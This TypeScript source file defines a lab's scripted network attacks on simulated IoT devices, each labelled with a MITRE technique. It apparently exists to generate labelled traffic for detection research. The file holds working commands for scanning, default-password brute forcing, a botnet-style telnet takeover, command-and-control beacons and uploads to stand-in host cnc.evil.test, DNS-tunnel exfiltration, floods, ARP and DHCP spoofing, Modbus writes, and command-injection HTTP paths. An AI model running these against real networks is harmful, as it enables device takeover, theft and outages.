// The attacks, each a labelled step: who does what to whom, with which real tool, and when it was done.
// Every one is bounded in time and packets, and none can leave the namespaces.

import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'

import { lan } from './addressing.ts'
import { deviceNamed, gateway } from './devices.ts'
import type { Attack } from './label.ts'
import type { Network } from './network.ts'
import { program, startDhcpClient } from './services.ts'

const at = (name: string): string => deviceNamed(name).ipv4
const evil = '203.0.113.66'
const quiet = ['curl', '-s', '-m', '10', '-o', '/dev/null']
const guesses = ['root:root', 'admin:1234', 'root:888888', 'root:vizxv', 'admin:password']
const bot = ['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', 'cat /proc/mounts', 'exit']

function step(
  [id, kind, technique, source, destination]: [string, string, string, string, string],
  what: string,
  command: Attack['command'],
  timeLimitSeconds = 30,
): Attack {
  return { id, class: kind, technique, what, source, destination, timeLimitSeconds, command }
}

const reconnaissance: Attack[] = [
  step(
    ['arp-scan', 'reconnaissance', 'T1018', 'mallory', lan.ipv4],
    'asks by ARP for every address of the network',
    ['arp-scan', '-I', 'eth0', lan.ipv4],
  ),
  step(
    ['port-scan', 'reconnaissance', 'T1046', 'mallory', 'camera'],
    'SYN scan of 100 ports of eight hosts',
    ['nmap', '-sS', '-n', '-T4', '-F', '--max-retries', '0', '192.168.50.11-12,14-17,19,23'],
  ),
  step(
    ['service-scan', 'reconnaissance', 'T1046', 'mallory', 'camera'],
    'asks the open ports of the camera what they run',
    ['nmap', '-sV', '-n', '-T4', '-p', '23,80,554', at('camera')],
    25,
  ),
  step(
    ['udp-scan', 'reconnaissance', 'T1046', 'mallory', 'printer'],
    'UDP scan of ports of printer and bulb',
    [
      'nmap',
      '-sU',
      '-n',
      '-T4',
      '--max-retries',
      '0',
      '-p',
      '53,67,69,123,161,1900,5353,5683',
      '192.168.50.12,15',
    ],
    20,
  ),
  step(
    ['slow-scan', 'reconnaissance', 'T1046', 'mallory', 'hub'],
    'one SYN every two seconds to the hub',
    [
      'nmap',
      '-sS',
      '-n',
      '-Pn',
      '--scan-delay',
      '2s',
      '--max-retries',
      '0',
      '-p',
      '21,22,23,25,80,110,443,1883,3389,8080,8443,8883',
      at('hub'),
    ],
    40,
  ),
  step(
    ['modbus-identify', 'reconnaissance', 'T0888', 'mallory', 'plc'],
    'reads the identity of the PLC',
    ['nmap', '-n', '-Pn', '-p', '502', '--script', 'modbus-discover', at('plc')],
  ),
  step(
    ['snmp-walk', 'reconnaissance', 'T1602.001', 'mallory', 'printer'],
    'walks the system group with community public',
    ['snmpwalk', '-v2c', '-c', 'public', at('printer'), '1.3.6.1.2.1.1'],
  ),
  step(
    ['coap-discovery', 'reconnaissance', 'T1046', 'mallory', 'bulb'],
    'asks the bulb for its resources',
    ['coap-client-notls', '-B', '3', '-m', 'get', `coap://${at('bulb')}/.well-known/core`],
  ),
  step(
    ['mqtt-eavesdrop', 'reconnaissance', 'T1040', 'mallory', 'hub'],
    'subscribes to everything and to $SYS',
    ['mosquitto_sub', '-h', at('hub'), '-i', 'x', '-t', '#', '-t', '$SYS/#'],
    8,
  ),
]

const credentials: Attack[] = [
  step(
    ['snmp-guess', 'brute-force', 'T1110.001', 'mallory', 'printer'],
    'guesses communities of the printer',
    async (network) => {
      const list = wordList(network, ['private', 'admin', 'manager', 'cisco', 'secret', 'public'])
      return network.run('mallory', ['onesixtyone', '-c', list, at('printer')])
    },
  ),
  step(
    ['http-guess', 'brute-force', 'T1110.001', 'mallory', 'camera'],
    'guesses HTTP basic passwords of the camera with hydra',
    async (network) => {
      const words = [
        '123456',
        'password',
        '12345',
        '888888',
        'root',
        'user',
        '1111',
        'camera',
        'pass',
      ]
      const list = wordList(network, [...words, '4321', '9999', 'tech', 'admin'])
      const target = ['-s', '80', at('camera'), 'http-get', '/']
      return network.run('mallory', [
        'hydra',
        '-I',
        '-l',
        'admin',
        '-P',
        list,
        '-t',
        '2',
        ...target,
      ])
    },
  ),
  step(
    ['ssh-guess', 'brute-force', 'T1110.001', 'mallory', 'recorder'],
    'guesses SSH passwords of the recorder with hydra',
    async (network) => {
      const list = wordList(network, ['123456', 'password', 'xmhdipc', 'juantech', 'klv123', 'dvr'])
      const target = [at('recorder'), 'ssh']
      const words = ['hydra', '-I', '-l', 'root', '-P', list, '-t', '2', ...target]
      return network.run('mallory', words, 25_000)
    },
  ),
  step(
    ['telnet-takeover', 'exploit', 'T1078.001', 'mallory', 'camera'],
    'logs in to the camera with its default password and types what a loader types',
    program('telnet.ts', at('camera'), 'root:xc3511', ...bot),
  ),
]

const botnet: Attack[] = [
  {
    ...step(
      ['c2-beacon', 'command-and-control', 'T1571', 'camera', evil],
      'the infected camera reports every 8 seconds to TCP 48101',
      program('beacon.ts', 'cnc.evil.test', '48101', '14', '8'),
      115,
    ),
    isConcurrent: true,
  },
  step(
    ['telnet-brute-force', 'brute-force', 'T1110.001', 'camera', 'recorder'],
    'the infected camera guesses telnet passwords of the recorder until one opens',
    program('telnet.ts', at('recorder'), [...guesses, 'root:xc3511'].join(','), ...bot),
    45,
  ),
  step(
    ['telnet-sweep', 'lateral-movement', 'T1046', 'camera', '203.0.113.0/24'],
    'the infected camera looks for telnet outside',
    [
      'masscan',
      '--rate',
      '150',
      '--wait',
      '2',
      '-e',
      'eth0',
      '--adapter-ip',
      at('camera'),
      '--router-mac',
      gateway.mac,
      '-p23,2323',
      '203.0.113.0/24',
      '--exclude',
      '203.0.113.1',
    ],
  ),
  step(
    ['http-beacon', 'command-and-control', 'T1071.001', 'camera', evil],
    'reports over HTTP with waits that vary',
    async (network) => {
      for (const seconds of [3, 4, 2, 5, 3, 4, 3, 4, 5, 3]) {
        await network.run('camera', [...quiet, 'http://cnc.evil.test:8080/b?id=IPCAM-4C21'])
        await sleep(seconds * 1000)
      }
      return 0
    },
    60,
  ),
]

const floods: Attack[] = [
  step(
    ['syn-flood', 'denial-of-service', 'T1498.001', 'bulb', '203.0.113.99'],
    '2500 SYN from the bulb',
    ['hping3', '-q', '-S', '-p', '80', '-i', 'u1000', '-c', '2500', '203.0.113.99'],
  ),
  step(
    ['udp-flood', 'denial-of-service', 'T1498.001', 'bulb', '203.0.113.99'],
    '1000 datagrams of 256 bytes from the bulb',
    ['hping3', '-q', '--udp', '-p', '53', '-d', '256', '-i', 'u1000', '-c', '1000', '203.0.113.99'],
  ),
  step(
    ['slow-http', 'denial-of-service', 'T1499.002', 'mallory', 'camera'],
    '40 connections whose heads never end',
    [
      'slowhttptest',
      '-c',
      '40',
      '-H',
      '-i',
      '4',
      '-r',
      '20',
      '-l',
      '12',
      '-u',
      `http://${at('camera')}/`,
    ],
  ),
]

const neighbours: Attack[] = [
  step(
    ['arp-spoof', 'adversary-in-the-middle', 'T1557.002', 'mallory', 'laptop'],
    'tells the laptop to be the gateway and the gateway to be the laptop; relays',
    ['arpspoof', '-i', 'eth0', '-t', at('laptop'), '-r', gateway.ipv4],
    16,
  ),
  step(
    ['rogue-dhcp', 'adversary-in-the-middle', 'T1557.003', 'mallory', 'phone'],
    'a second DHCP server that names itself router and resolver; the phone joins anew',
    rogueDhcp,
    30,
  ),
  step(
    ['rogue-router', 'adversary-in-the-middle', 'T1557', 'mallory', 'ff02::1'],
    'router advertisements of another prefix',
    ['atk6-fake_router26', '-A', 'fd66:6666::/64', 'eth0'],
    8,
  ),
  step(
    ['neighbour-spoof', 'adversary-in-the-middle', 'T1557', 'mallory', 'ff02::1'],
    "neighbour advertisements for the gateway's address with the attacker's MAC",
    [
      'atk6-fake_advertise6',
      '-n',
      '5',
      '-w',
      '2',
      'eth0',
      'fd8a:41c7:9be2:50::1',
      'ff02::1',
      '08:00:27:10:00:66',
    ],
    12,
  ),
  step(
    ['mac-flood', 'denial-of-service', 'T1498', 'mallory', 'the bridge'],
    '300 frames from invented MACs',
    ['macof', '-i', 'eth0', '-n', '300'],
    10,
  ),
]

async function rogueDhcp(network: Network): Promise<number> {
  const range = `--dhcp-range=${lan.prefix}200,${lan.prefix}220,5m`
  const own = at('mallory')
  const options = [`--dhcp-option=3,${own}`, `--dhcp-option=6,${own}`, '--dhcp-authoritative']
  const leases = `--dhcp-leasefile=${join(network.directory, 'mallory', 'rogue.leases')}`
  const resolver = ['-k', '-C', '/dev/null', '-u', 'root', '-p', '53', '--no-resolv', '--no-hosts']
  const server = [`--server=${gateway.ipv4}`, '-i', 'eth0', '--no-ping', '--pid-file=']
  const words = ['dnsmasq', ...resolver, ...server, range, ...options, leases]
  const rogue = network.start('mallory', words)
  await sleep(1500)
  for (const client of network.running('phone', 'udhcpc')) await network.stop(client)
  startDhcpClient(network, deviceNamed('phone'))
  await sleep(15_000)
  await network.stop(rogue)
  return 0
}

const theft: Attack[] = [
  step(
    ['dns-tunnel', 'exfiltration', 'T1071.004', 'tv', gateway.ipv4],
    'iodine: a tunnel through the resolver of the gateway, with data in it',
    dnsTunnel,
    40,
  ),
  step(
    ['upload', 'exfiltration', 'T1041', 'camera', evil],
    '250 kB to the command-and-control server over TLS',
    async (network) => {
      const file = join(network.directory, 'upload')
      writeFileSync(file, randomBytes(250_000))
      return network.run('camera', [...quiet, '-k', '-T', file, 'https://cnc.evil.test/up'])
    },
  ),
]

async function dnsTunnel(network: Network): Promise<number> {
  const key = ['-P', 'tunnel', '-f']
  const network10 = ['10.200.0.1/27', 't.evil.test']
  const far = network.start('outside', [
    'iodined',
    ...key,
    '-c',
    '-l',
    evil,
    '-d',
    'tun8',
    ...network10,
  ])
  await sleep(1000)
  const near = ['iodine', ...key, '-r', '-d', 'tun7', gateway.ipv4, 't.evil.test']
  const tunnel = network.start('tv', near)
  await sleep(8000)
  await network.run('tv', ['ping', '-c', '8', '-i', '0.4', '-s', '300', '10.200.0.1'])
  const data = join(network.directory, 'tv', 'data')
  writeFileSync(data, randomBytes(8000).toString('base64'))
  const code = await network.run('tv', [...quiet, '-d', `@${data}`, 'http://10.200.0.1:8080/'])
  await network.stop(tunnel)
  await network.stop(far)
  return code
}

const commands: Attack[] = [
  step(
    ['modbus-write', 'unauthorised-command', 'T0855', 'mallory', 'plc'],
    'writes coils and registers of the PLC',
    async (network) => {
      for (const register of ['1', '2', '3', '20']) {
        const to = ['-m', 'tcp', '-a', '1', '-r', register, '-1', at('plc')]
        await network.run('mallory', ['mbpoll', '-t', '0', ...to, '1'])
        await network.run('mallory', ['mbpoll', '-t', '4', ...to, '9999'])
      }
      return 0
    },
  ),
  step(
    ['mqtt-command', 'unauthorised-command', 'T0855', 'mallory', 'hub'],
    'publishes set points to the thermostat',
    async (network) => {
      const words = ['-h', at('hub'), '-i', 'evil', '-t', 'home/thermostat/set', '-m', '35']
      for (let count = 0; count < 5; count++)
        await network.run('mallory', ['mosquitto_pub', ...words])
      return 0
    },
  ),
  step(['mqtt-flood', 'denial-of-service', 'T0814', 'mallory', 'hub'], '3000 messages in a row', [
    'sh',
    '-c',
    `yes x | head -3000 | mosquitto_pub -h ${at('hub')} -i flood -t home/flood -l`,
  ]),
  step(
    ['http-exploit', 'exploit', 'T1190', 'mallory', 'camera'],
    'requests that known weaknesses of cameras and routers are tried with',
    async (network) => {
      const paths = [
        '/cgi-bin/../../../../etc/passwd',
        '/shell?cat+/etc/passwd',
        '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id',
        '/GponForm/diag_Form?images/',
        '/language/Swedish${IFS}&&id>r',
        '/board.cgi?cmd=id',
      ]
      const head = ['--path-as-is', '-A', 'Hello, World']
      for (const path of paths) {
        await network.run('mallory', [...quiet, ...head, `http://${at('camera')}${path}`])
      }
      return 0
    },
  ),
]

export const attacks: Attack[] = [
  ...reconnaissance,
  ...credentials,
  ...botnet,
  ...commands,
  ...neighbours,
  ...theft,
  ...floods,
]

/** The story of the sample: a guest scans, takes the camera, the camera attacks the recorder. */
export const sampleStory = [
  'arp-scan',
  'port-scan',
  'telnet-takeover',
  'c2-beacon',
  'telnet-brute-force',
  'modbus-write',
  'arp-spoof',
  'rogue-dhcp',
].map((id) => {
  const found = attacks.find((attack) => attack.id === id)
  if (!found) throw new Error(`no attack is called ${id}`)
  return found
})

function wordList(network: Network, words: string[]): string {
  const path = join(network.directory, 'mallory', 'words')
  writeFileSync(path, `${words.join('\n')}\n`)
  return path
}
